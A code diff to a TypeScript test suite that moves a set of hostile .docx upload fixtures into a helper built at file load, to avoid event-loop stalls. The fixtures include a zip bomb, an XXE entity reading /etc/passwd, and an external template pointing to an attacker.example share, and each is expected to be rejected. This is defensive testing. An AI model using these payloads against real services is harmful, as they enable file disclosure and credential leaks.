@@ -34,6 +34,39 @@ import { usePostgresSchema } from "../helpers/postgres.ts";
 const same = (a: Uint8Array, b: Uint8Array) => expect(Buffer.compare(Buffer.from(a), Buffer.from(b))).toBe(0);
 const doc = (id: string) => `/api/v1/documents/${id}`;
 
+/**
+ * The hostile uploads, built when this file loads, before the gateway starts. Built inside the test
+ * they held the event loop, which the in-process gateway shares, for seconds (zipSync of 10,001
+ * entries at its default level: 2.7–3.4 s on a loaded 2-core machine, more under a full `npm test`).
+ * A request sent on a pooled keep-alive connection right after a block of over 5 s reaches a server
+ * whose keep-alive timer (5 s) fires in the same turn: it closes the connection under the request,
+ * and the client reads ECONNRESET. Stored entries (level 0) make the same 10,001 entries in a tenth of it.
+ */
+async function buildHostileUploads(): Promise<[string, Uint8Array, number, string][]> {
+  const good = await renderedDocx();
+  const manyEntries: Zippable = {};
+  for (let i = 0; i <= DOCX_ENTRY_LIMIT; i++) manyEntries[`word/media/${i}.bin`] = new Uint8Array(0);
+  const settingsRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///\\\\attacker.example\\share\\template.dotm" TargetMode="External"/></Relationships>`;
+  return [
+    ["not a zip", strToU8("%PDF-1.7 certainly not a word document"), 415, "UNSUPPORTED_MEDIA_TYPE"],
+    ["a zip that is no Word package", zipSync({ "notes.txt": strToU8("hello") }), 415, "UNSUPPORTED_MEDIA_TYPE"],
+    ["a zip bomb", zeroBomb(DOCX_EXPANDED_LIMIT_BYTES + 1024 * 1024), 413, "PAYLOAD_TOO_LARGE"],
+    ["too many entries", zipSync(manyEntries, { level: 0 }), 413, "PAYLOAD_TOO_LARGE"],
+    [
+      "a DTD",
+      rewrite(good, {
+        "word/document.xml": (xml) => xml.replace("?>", '?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
+      }),
+      415,
+      "UNSUPPORTED_MEDIA_TYPE",
+    ],
+    ["an external template", rewrite(good, { "word/_rels/settings.xml.rels": settingsRels }), 415, "UNSUPPORTED_MEDIA_TYPE"],
+    ["over 25 MB", new Uint8Array(25 * 1024 * 1024 + 1), 413, "PAYLOAD_TOO_LARGE"],
+  ];
+}
+const hostileUploads = await buildHostileUploads();
+
 let tg: TestGateway;
 let alice: Client;
 let bob: Client;
@@ -517,27 +550,7 @@ describe("imports and .docx replacements", () => {
     const owner = client(tg.url, await tg.key({ user: "hostile-uploader" }));
     const target = await owner.create("Target", "# Keep me\n");
     const listBefore = await owner.ids();
-    const good = await renderedDocx();
-    const manyEntries: Zippable = {};
-    for (let i = 0; i <= DOCX_ENTRY_LIMIT; i++) manyEntries[`word/media/${i}.bin`] = new Uint8Array(0);
-    const settingsRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
-<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///\\\\attacker.example\\share\\template.dotm" TargetMode="External"/></Relationships>`;
-    const cases: [string, Uint8Array, number, string][] = [
-      ["not a zip", strToU8("%PDF-1.7 certainly not a word document"), 415, "UNSUPPORTED_MEDIA_TYPE"],
-      ["a zip that is no Word package", zipSync({ "notes.txt": strToU8("hello") }), 415, "UNSUPPORTED_MEDIA_TYPE"],
-      ["a zip bomb", zeroBomb(DOCX_EXPANDED_LIMIT_BYTES + 1024 * 1024), 413, "PAYLOAD_TOO_LARGE"],
-      ["too many entries", zipSync(manyEntries), 413, "PAYLOAD_TOO_LARGE"],
-      [
-        "a DTD",
-        rewrite(good, {
-          "word/document.xml": (xml) => xml.replace("?>", '?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
-        }),
-        415,
-        "UNSUPPORTED_MEDIA_TYPE",
-      ],
-      ["an external template", rewrite(good, { "word/_rels/settings.xml.rels": settingsRels }), 415, "UNSUPPORTED_MEDIA_TYPE"],
-      ["over 25 MB", new Uint8Array(25 * 1024 * 1024 + 1), 413, "PAYLOAD_TOO_LARGE"],
-    ];
+    const cases = hostileUploads;
     // The gateway spools uploads under TMPDIR: a directory of this test's own, to see that nothing is left.
     const spoolDir = await mkdtemp(join(tmpdir(), "wg-rest-spool-"));
     const savedTmpdir = process.env["TMPDIR"];
